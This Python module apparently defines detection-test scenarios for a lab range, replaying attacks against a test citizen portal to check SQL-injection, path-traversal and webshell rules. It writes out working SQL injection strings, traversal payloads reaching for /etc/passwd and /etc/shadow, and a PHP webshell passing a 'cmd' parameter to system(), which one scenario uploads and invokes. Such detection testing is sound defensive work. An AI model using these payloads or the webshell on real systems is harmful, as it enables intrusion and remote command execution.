"""Scenarios against the citizen portal, played through the live gateway of the city range.

* ``sql-injection-path-traversal`` — an attacker with a self-registered citizen account tries
  SQL injection in ``/api/applications?id=`` and path traversal both in a query parameter (the
  gateway forwards it; the portal refuses it and logs it) and in the path itself (the gateway
  refuses ``..`` above the root and encoded slashes before any app sees them).
* ``webshell-upload`` — the same kind of account uploads a PHP webshell through the portal's
  upload form and calls it with a command.

Evidence: the portal's nginx-format access log (rules on ``category: webserver``) and the
gateway's audit (``Path traversal through the gateway``).
"""

from __future__ import annotations

from typing import ClassVar

from lab.cityconfig import ATTACKER_ADDRESS
from lab.range import expect_status
from lab.scenarios.base import Scenario, Stage

SQL_INJECTION = "eecb9267-7fc8-5cc8-924f-5b5bf4976e04"  # rules/web-sql-injection.yml
WEB_TRAVERSAL = "fc73b772-ecc4-51f1-9dcc-172ec679e97b"  # rules/web-path-traversal.yml
GATEWAY_TRAVERSAL = "be3e6013-6eed-58d9-8d29-6d47fdc87683"  # rules/gateway-path-traversal.yml
WEBSHELL = "e4977fac-cbd8-5b5b-92a7-9ead5cb0feca"  # rules/web-webshell-access.yml

PORTAL = "https://portal.city.test"
#: What a browser-like attack tool sends (not a scanner user agent: that is another rule).
AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"

#: Injection attempts as they go on the wire (httpx percent-encodes the spaces, like a browser).
INJECTIONS = (
    "1001'",
    "1001 AND SLEEP(5)",
    "-1 UNION SELECT table_name,2,3 FROM information_schema.tables--",
    "1001) AND BENCHMARK(5000000,MD5(1))--",
)
#: Traversal in a query parameter: forwarded by the gateway (queries are the app's business).
QUERY_TRAVERSALS = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow")
#: Traversal in the path: refused by the gateway (400) and audited with the raw path.
PATH_TRAVERSALS = ("/api/files/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/api/files/..%2f..%2fconfig")

WEBSHELL_CODE = b"<?php if (isset($_GET['cmd'])) { system($_GET['cmd']); } ?>\n"


class SqlInjectionPathTraversal(Scenario):
    name: ClassVar[str] = "sql-injection-path-traversal"
    title: ClassVar[str] = "SQL injection and path traversal against the citizen portal"
    techniques: ClassVar[tuple[str, ...]] = ("T1190", "T1083")
    expects: ClassVar[tuple[str, ...]] = (SQL_INJECTION, WEB_TRAVERSAL, GATEWAY_TRAVERSAL)
    needs_range: ClassVar[bool] = True

    def play(self, stage: Stage) -> None:
        city = stage.range
        auth = {"Authorization": f"Bearer {city.token('frank', groups=['citizens'])}"}
        with (
            city.recording(stage),
            city.client(None, ATTACKER_ADDRESS, user_agent=AGENT) as client,
        ):
            expect_status(client.get(f"{PORTAL}/api/applications?id=1001", headers=auth), 200)
            for payload in INJECTIONS:
                url = f"{PORTAL}/api/applications?id={payload}"
                expect_status(client.get(url, headers=auth), 400)
            for payload in QUERY_TRAVERSALS:
                url = f"{PORTAL}/api/files?name={payload}"
                expect_status(client.get(url, headers=auth), 400)
            for path in PATH_TRAVERSALS:
                expect_status(client.get(f"{PORTAL}{path}", headers=auth), 400)
        stage.note(
            f"{len(INJECTIONS)} SQL injections and {len(QUERY_TRAVERSALS)} query traversals "
            f"reached the portal (refused there); {len(PATH_TRAVERSALS)} path traversals "
            "refused by the gateway"
        )


class WebshellUpload(Scenario):
    name: ClassVar[str] = "webshell-upload"
    title: ClassVar[str] = "A PHP webshell uploaded through the portal and called"
    techniques: ClassVar[tuple[str, ...]] = ("T1505.003", "T1190")
    expects: ClassVar[tuple[str, ...]] = (WEBSHELL,)
    needs_range: ClassVar[bool] = True

    def play(self, stage: Stage) -> None:
        city = stage.range
        auth = {"Authorization": f"Bearer {city.token('frank', groups=['citizens'])}"}
        with (
            city.recording(stage),
            city.client(None, ATTACKER_ADDRESS, user_agent=AGENT) as client,
        ):
            # First a harmless file, as a citizen attaching a document would.
            files = {"file": ("passport.pdf", b"%PDF-1.4 scan\n", "application/pdf")}
            expect_status(client.post(f"{PORTAL}/api/upload", headers=auth, files=files), 201)
            files = {"file": ("shell.php", WEBSHELL_CODE, "application/x-php")}
            expect_status(client.post(f"{PORTAL}/api/upload", headers=auth, files=files), 201)
            for command in ("id", "uname -a", "cat /etc/hostname"):
                response = client.get(
                    f"{PORTAL}/uploads/shell.php", params={"cmd": command}, headers=auth
                )
                expect_status(response, 200)
        stage.note("uploaded passport.pdf and shell.php; called shell.php?cmd= 3x")


SCENARIOS: tuple[type[Scenario], ...] = (SqlInjectionPathTraversal, WebshellUpload)
